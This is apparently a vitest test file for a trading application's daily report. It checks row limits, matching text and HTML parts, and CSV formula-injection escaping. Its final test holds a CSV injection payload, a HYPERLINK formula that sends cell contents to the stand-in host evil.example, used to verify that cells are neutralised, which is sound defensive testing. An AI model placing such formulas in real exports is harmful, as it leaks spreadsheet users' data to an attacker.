/**
 * The daily summary's body within BODY_LIMITS and its full tables as CSV: which rows the body keeps (the largest
 * drifts, every order that did not fill, the largest orders), that the text and HTML parts say the same "and N more",
 * and that a CSV cell cannot become a spreadsheet formula.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { DailyReportData, ReportOrder } from '../../src/report/daily-report-data.js';
import { renderDailyReport } from '../../src/report/render-daily-report.js';
import { reportCsvFiles, spreadsheetSafe } from '../../src/report/report-csv.js';
import { BODY_LIMITS, buildReportView } from '../../src/report/report-view.js';
import { aReport } from './report-builders.js';

const position = (i: number): DailyReportData['positions'][number] => ({
  symbol: `S${String(i).padStart(3, '0')}`,
  quantity: 10,
  marketPrice: 100,
  marketValue: 1_000,
  avgCost: 90,
  costBasis: 900,
  unrealized: 100,
  weight: 0.002,
  targetWeight: 0.002,
  // S007 drifts most, then S013...: the largest by size, whatever the sign.
  drift: ((i * 7) % 60) / 10_000 - 0.003,
});

const order = (i: number, over: Partial<ReportOrder> = {}): ReportOrder => ({
  createdAt: `2026-11-23T15:${String(10 + (i % 50)).padStart(2, '0')}:00Z`,
  orderRef: `rb:r1:S${String(i).padStart(3, '0')}`,
  symbol: `S${String(i).padStart(3, '0')}`,
  action: 'BUY',
  quantity: 10 + i,
  limitPrice: 100,
  status: 'Filled',
  filledQuantity: 10 + i,
  avgFillPrice: 100,
  fills: [],
  ...over,
});

describe('the body within BODY_LIMITS', () => {
  const positions = Array.from({ length: 100 }, (_, i) => position(i));
  const orders = Array.from({ length: 60 }, (_, i) =>
    i % 10 === 3 ? order(i, { status: 'Rejected', filledQuantity: 0, avgFillPrice: 0, message: 'IB 201: rejected' }) : order(i),
  );
  const data = aReport({ kind: 'end', positions, orders, fills: [] });

  it('keeps the largest drifts, largest first, and says how many more are in positions.csv', () => {
    const v = buildReportView(data);
    const expected = [...positions]
      .sort((a, b) => Math.abs(b.drift) - Math.abs(a.drift))
      .slice(0, BODY_LIMITS.positions)
      .map((p) => p.symbol);
    expect(v.positions.map((p) => p.symbol)).toEqual(expected);
    expect(v.more.positions).toBe('and 75 more: see the attached positions.csv');
    expect(v.counts.positions).toBe(100);
  });

  it('keeps every order that did not fill and the largest of the others, in the order they were made', () => {
    const v = buildReportView(data);
    const rejected = orders.filter((o) => o.status === 'Rejected').map((o) => o.symbol);
    const shown = v.orders.map((o) => /S\d{3}/.exec(o.what)?.[0]);
    for (const s of rejected) expect(shown).toContain(s);
    // The 25 largest filled orders are the last 25 by index (quantity 10 + i).
    const filled = orders.filter((o) => o.status === 'Filled');
    for (const o of filled.slice(-BODY_LIMITS.orders)) expect(shown).toContain(o.symbol);
    expect(shown).toHaveLength(rejected.length + BODY_LIMITS.orders);
    expect(v.more.orders).toBe(`and ${60 - shown.length} more: see the attached orders.csv (their fills: fills.csv)`);
  });

  it(`an order shows ${BODY_LIMITS.fillsPerOrder} of its fills and says how many more are in fills.csv`, () => {
    const fill = (k: number): ReportOrder['fills'][number] => ({
      orderRef: 'rb:r1:S001',
      time: `2026-11-23T15:1${k}:00Z`,
      symbol: 'S001',
      side: 'BUY',
      quantity: 1,
      price: 100,
      commission: 0.35,
    });
    const fillsOf = (n: number): string[] =>
      buildReportView(aReport({ orders: [order(1, { fills: Array.from({ length: n }, (_, k) => fill(k)) })] })).orders[0]?.fills ?? [];
    expect(fillsOf(3)).toHaveLength(3);
    expect(fillsOf(4).at(-1)).toBe('and 1 more fill: see the attached fills.csv');
    expect(fillsOf(6)).toHaveLength(BODY_LIMITS.fillsPerOrder + 1);
    expect(fillsOf(6).at(-1)).toBe('and 3 more fills: see the attached fills.csv');
  });

  it('the text part and the HTML part say the same "and N more" lines', () => {
    const { text, html } = renderDailyReport(data);
    for (const line of ['and 75 more: see the attached positions.csv', 'more: see the attached orders.csv']) {
      expect(text).toContain(line);
      expect(html).toContain(line);
    }
  });

  it('a small day shows every row and says nothing of CSV files, which are attached all the same', () => {
    const m = renderDailyReport(aReport());
    expect(m.text).not.toContain('see the attached');
    expect(m.files?.map((f) => f.filename)).toEqual(['positions.csv', 'orders.csv', 'fills.csv']);
  });
});

describe('CSV cells', () => {
  it('a text cell that starts with = + - @ tab or CR gets a leading quote; others are left alone', () => {
    expect(['=1+1', '+1', '-1', '@A1', '\t=x', '\r=x', 'AAPL', 'BRK B', "'quoted"].map(spreadsheetSafe)).toEqual([
      "'=1+1",
      "'+1",
      "'-1",
      "'@A1",
      "'\t=x",
      "'\r=x",
      'AAPL',
      'BRK B',
      "'quoted",
    ]);
  });

  it('hostile strings in a symbol and a message come back as text; negative numbers stay numbers', () => {
    const evil = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const data = aReport({
      positions: [{ ...position(0), symbol: evil, drift: -0.0123 }],
      orders: [order(1, { symbol: '@SUM(A1:A9)', message: '-2+3, "quoted", and\na new line' })],
      fills: [],
    });
    const files = Object.fromEntries(reportCsvFiles(data).map((f) => [f.filename, f.content.toString('utf8')]));
    const positions = parse(files['positions.csv'] ?? '', { columns: true }) as Record<string, string>[];
    expect(positions[0]?.symbol).toBe(`'${evil}`);
    expect(positions[0]?.drift).toBe('-0.0123');
    expect(files['positions.csv']).toContain(',-0.0123\r\n');
    const orders = parse(files['orders.csv'] ?? '', { columns: true }) as Record<string, string>[];
    expect(orders[0]?.symbol).toBe("'@SUM(A1:A9)");
    expect(orders[0]?.message).toBe(`'-2+3, "quoted", and\na new line`);
  });
});
